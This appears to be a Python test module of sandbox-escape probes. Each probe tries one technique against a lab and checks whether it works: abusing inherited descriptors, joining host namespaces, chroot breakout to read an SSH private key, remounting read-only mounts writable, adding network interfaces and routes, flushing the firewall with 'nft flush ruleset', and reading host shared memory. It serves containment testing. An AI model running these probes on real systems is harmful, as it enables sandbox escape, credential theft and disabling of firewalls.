"""Descriptors and namespaces: what is left open, handed over, or led somewhere else."""

import ctypes
import os
import signal
import socket
import struct

from calls import call, taken
from probe import Held, libc, probe, shell


@probe("the secret is read")
def inherited_file(lab):
    """A descriptor that whoever started the sandbox had left open: a file."""
    if lab.secret.encode() not in os.read(9, 4096):
        raise Held("another file")


@probe("bytes arrive at the attacker")
def inherited_connection(lab):
    """A descriptor that whoever started the sandbox had left open: a connection."""
    left = socket.socket(fileno=10)
    left.sendall(lab.mark().encode())
    if not left.recv(100):
        raise EOFError("closed")


@probe("the secret is read")
def inherited_high_descriptor(lab):
    """A descriptor with a number so high that a loop over the first few hundred does not close it."""
    if lab.secret.encode() not in os.pread(900, 4096, 0):
        raise Held("another file")


@probe("the secret is read")
def inherited_directory(lab):
    """The root directory, left open: openat(2) below it passes every new root by."""
    with os.fdopen(os.open(lab.home[1:] + "/.ssh/id_ed25519", os.O_RDONLY, dir_fd=11)) as file:
        if lab.secret not in file.read():
            raise Held("another file")


@probe("the process outside ends")
def inherited_process(lab):
    """A descriptor of a process outside, left open: signals need no number that is seen."""
    signal.pidfd_send_signal(12, signal.SIGKILL)


@probe("the file is written")
def input_opened_anew(lab):
    """Standard input is a file that may only be read; /proc/self/fd/0 opens it again, for writing."""
    with open("/proc/self/fd/0", "r+b", 0) as file:
        file.write(lab.mark().encode())


@probe("the file's mode changes")
def mode_of_the_input(lab):
    """Standard input is a file that may only be read; fchmod(2) changes it without opening it."""
    before = os.fstat(0).st_mode & 0o7777
    os.fchmod(0, 0o640)
    after = os.fstat(0).st_mode & 0o7777
    os.fchmod(0, before)
    if after == before:
        raise Held("the mode stays")


@probe("the file's times change")
def times_of_the_input(lab):
    """Standard input is a file that may only be read; its times are set without opening it."""
    os.utime(0, (1, 1))
    if os.fstat(0).st_mtime != 1:
        raise Held("the times stay")


@probe("the file has a second name where it may be written")
def link_to_the_input(lab):
    """linkat(2) gives the file behind standard input a second name in the working directory."""
    if libc.linkat(-100, b"/proc/self/fd/0", -100, b"second", 0x400):
        raise OSError(ctypes.get_errno(), "linkat")
    with open("second", "r+b", 0) as file:
        file.write(lab.mark().encode())


@probe("the secret is read")
def files_of_other_processes(lab):
    """/proc/PID/fd of every process that is seen: files that they hold open."""
    last = Held("nothing found")
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            for name in os.listdir(f"/proc/{pid}/fd") if int(pid) != os.getpid() else ():
                path = f"/proc/{pid}/fd/{name}"
                if os.path.isfile(path) and "aws" in os.readlink(path) and lab.secret in open(path).read():
                    return
        except OSError as error:
            last = error
    raise last


# namespaces


def joined(pid, kind):
    descriptor = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
    call("setns", descriptor, 0)


@probe("the network of process 1 is joined")
def network_of_process_1(lab):
    """setns(2) into the network of process 1."""
    joined(1, "net")


@probe("the mounts of process 1 are joined")
def mounts_of_process_1(lab):
    """setns(2) into the mounts of process 1."""
    joined(1, "mnt")


@probe("the network of a process outside is joined")
def network_of_another(lab):
    """setns(2) into the network of a process outside, by its number."""
    joined(lab.victim_pid, "net")


@probe("the namespaces of another process are joined")
def namespaces_by_process(lab):
    """setns(2) with a descriptor of the parent process: several namespaces at once, and no file of /proc."""
    call("setns", call("pidfd_open", os.getppid(), 0), 0x40000000 | 0x00020000)


@probe("it is told")
def namespace_of_a_socket(lab):
    """SIOCGSKNS gives the network namespace of a socket as a descriptor."""
    one = socket.socket()
    call("ioctl", one.fileno(), 0x894C, 0)


def new(flag):
    call("unshare", flag)


@probe("the namespace stands")
def new_network(lab):
    """unshare(2): a network of its own, in which rules are missing."""
    new(0x40000000)


@probe("the namespace stands")
def new_mounts(lab):
    """unshare(2): mounts of its own."""
    new(0x00020000)


@probe("the namespace stands")
def new_processes(lab):
    """unshare(2): process numbers of its own, for a /proc of its own."""
    new(0x20000000)


@probe("the namespace stands")
def new_clocks(lab):
    """unshare(2): a time namespace, in which monotonic clocks are shifted."""
    new(0x00000080)


@probe("the namespace stands")
def new_control_groups(lab):
    """unshare(2): a control group namespace, for a view that begins elsewhere."""
    new(0x02000000)


@probe("the namespace stands")
def new_ipc_and_host_name(lab):
    """unshare(2): IPC and host name, the two that are thought harmless."""
    try:
        new(0x08000000)
    except OSError:
        new(0x04000000)


@probe("the process stands in a namespace of its own", weaker="bwrap")
def clone_into_namespaces(lab):
    """clone(2) with flags for a user and a network namespace."""
    if call("clone", 0x10000000 | 0x40000000 | signal.SIGCHLD, 0, 0, 0, 0) == 0:
        os._exit(0)


@probe("the process stands in a namespace of its own", weaker="bwrap")
def clone3_into_namespaces(lab):
    """clone3(2), whose flags lie in memory, where no filter reads them."""
    words = struct.pack("=11Q", 0x10000000 | 0x40000000, 0, 0, 0, signal.SIGCHLD, 0, 0, 0, 0, 0, 0)
    wish = ctypes.create_string_buffer(words, 88)
    if call("clone3", wish, 88) == 0:
        os._exit(0)


# mounts and roots


@probe("the key is read")
def chroot_and_climb(lab):
    """chroot(2) below an open directory, and from that directory upwards: the old way out of a new root."""
    outside = os.open("/", os.O_RDONLY)
    os.mkdir("cage")
    os.chroot("cage")
    os.fchdir(outside)
    os.chdir("../../../../../../../..")
    with open(lab.home[1:] + "/.ssh/id_ed25519") as file:
        if lab.secret not in file.read():
            raise Held("another file")


@probe("the kernel takes the call")
def pivot_root(lab):
    """pivot_root(2): another root for everybody in these mounts."""
    taken("pivot_root", b".", b".")


@probe("the kernel gives a handle")
def handle_of_a_file(lab):
    """name_to_handle_at(2): the handle of a file, which is all that is needed to open its neighbours."""
    handle, mount = ctypes.create_string_buffer(struct.pack("=Ii", 128, 0), 136), ctypes.c_int()
    call("name_to_handle_at", -100, b".", handle, ctypes.byref(mount), 0)


@probe("the key is read")
def bind_mount(lab):
    """mount(2): the key bound into the working directory."""
    open("bound", "w").close()
    call("mount", (lab.home + "/.ssh/id_ed25519").encode(), b"bound", None, 0x1000, None)
    try:
        with open("bound") as file:
            if lab.secret not in file.read():
                raise Held("another file")
    finally:
        call("umount2", b"bound", 2)


@probe("the file system is mounted")
def new_proc(lab):
    """mount(2): a /proc of its own, without masks and writable."""
    os.mkdir("proc")
    call("mount", b"proc", b"proc", b"proc", 0, None)
    call("umount2", b"proc", 2)


@probe("the file system is mounted")
def new_sysfs(lab):
    """mount(2): a /sys of its own, with the devices."""
    os.mkdir("sys")
    call("mount", b"sysfs", b"sys", b"sysfs", 0, None)
    call("umount2", b"sys", 2)


@probe("the kernel takes the call")
def remounted_writable(lab):
    """mount(2) with MS_REMOUNT: what was mounted read-only becomes writable."""
    taken("mount", None, b"/usr", None, 0x20 | 0x1000, None)


@probe("the kernel takes the call")
def uncovered(lab):
    """umount2(2): what lies below a mount that covers something comes to light."""
    taken("umount2", b"/", 4)


@probe("the kernel gives a copy")
def tree_cloned(lab):
    """open_tree(2): a detached copy of the mounts below the root."""
    call("open_tree", -100, b"/", 1 | os.O_CLOEXEC)


@probe("the kernel takes the call")
def mount_moved(lab):
    """move_mount(2): mounts moved aside."""
    taken("move_mount", -100, b"/", -100, b"/", 0)


@probe("the kernel gives a context")
def file_system_made(lab):
    """fsopen(2): a new file system by the newer mount calls."""
    call("fsopen", b"tmpfs", 0)


@probe("the kernel takes the call")
def mount_attributes(lab):
    """mount_setattr(2): the read-only attribute taken away, for a whole tree."""
    wish = ctypes.create_string_buffer(struct.pack("=QQQQ", 0, 1, 0, 0), 32)
    taken("mount_setattr", -100, b"/nonexistent", 0x8000, wish, 32)


# the network's own configuration


@probe("the interface stands")
def new_interface(lab):
    """A pair of virtual interfaces, by route netlink."""
    shell("ip link add escape0 type veth peer name escape1 && ip link del escape0")


@probe("the interface stands")
def tun_device(lab):
    """A tun interface by /dev/net/tun: packets written by a program."""
    import fcntl

    with open("/dev/net/tun", "r+b", 0) as device:
        fcntl.ioctl(device, 0x400454CA, struct.pack("16sH22x", b"escape2", 1))


@probe("the address is added")
def own_address(lab):
    """The attacker's neighbour as an address of one's own, by route netlink."""
    shell("ip addr add 5.5.5.67/32 dev lo && ip addr del 5.5.5.67/32 dev lo")


@probe("the route is added")
def own_route(lab):
    """A route of one's own, by route netlink."""
    shell("ip route add 198.51.100.0/24 dev lo && ip route del 198.51.100.0/24")


@probe("the rule is added")
def own_routing_rule(lab):
    """A rule that chooses another routing table, by route netlink."""
    shell("ip rule add from 127.0.0.1 lookup 7777 pref 7777 && ip rule del pref 7777")


@probe("the address is set")
def address_by_ioctl(lab):
    """SIOCSIFADDR: the old way to set an interface's address."""
    import fcntl

    wish = struct.pack("16sHH4s8x", b"lo:escape", socket.AF_INET, 0, socket.inet_aton("127.7.7.7"))
    fcntl.ioctl(socket.socket(socket.AF_INET, socket.SOCK_DGRAM), 0x8916, wish)


@probe("the flags are set")
def flags_by_ioctl(lab):
    """SIOCSIFFLAGS: an interface brought up or down, the old way."""
    import fcntl

    one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    now = fcntl.ioctl(one, 0x8913, struct.pack("16s24x", b"lo"))
    fcntl.ioctl(one, 0x8914, now)


@probe("the rules are gone")
def firewall_flushed(lab):
    """nft(8): all rules of the firewall flushed."""
    shell("nft flush ruleset")


@probe("the setting is written")
def network_setting(lab):
    """A write below /proc/sys/net."""
    with open("/proc/sys/net/ipv4/conf/lo/forwarding", "r+") as file:
        now = file.read()
        file.seek(0)
        file.write(now)


# System V and POSIX objects of the host


@probe("the secret is read", weaker="none")
def shared_memory_of_the_host(lab):
    """A System V shared memory segment of the host, by its key."""
    libc.shmat.restype = ctypes.c_void_p
    where = libc.shmat(call("shmget", lab.shared_key, 0, 0), None, 0o10000)
    if where in (None, ctypes.c_void_p(-1).value):
        raise Held("not attached")
    if lab.secret.encode() not in ctypes.string_at(where, 32):
        raise Held("another segment")


@probe("the message is read")
def message_queue_of_the_host(lab):
    """A System V message queue of the host, by its key."""
    room = ctypes.create_string_buffer(136)
    call("msgrcv", call("msgget", lab.shared_key, 0), room, 128, 0, 0o4000)
